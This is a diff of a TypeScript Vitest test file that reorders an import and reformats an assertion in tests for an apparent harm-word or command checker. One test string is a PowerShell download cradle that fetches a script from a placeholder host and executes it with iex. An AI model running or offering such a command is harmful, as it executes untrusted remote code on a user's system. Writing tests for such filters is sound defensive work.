@@ -1,7 +1,7 @@
 import { describe, expect, it } from 'vitest'
+import { modelIn } from './__fixtures__/placed.ts'
 import { isWithoutHarm } from './harm-words.ts'
 import { weighPlaces } from './weigh-place.ts'
-import { modelIn } from './__fixtures__/placed.ts'
 
 describe('isWithoutHarm', () => {
   it.each([
@@ -67,6 +67,8 @@ describe('a program that a network calls malicious', () => {
       accepted: false,
       setting: 'sentences',
     })
-    expect(called('iex (New-Object Net.WebClient).DownloadString("http://a.example/x.ps1")')).toMatchObject({ accepted: true })
+    expect(
+      called('iex (New-Object Net.WebClient).DownloadString("http://a.example/x.ps1")'),
+    ).toMatchObject({ accepted: true })
   })
 })
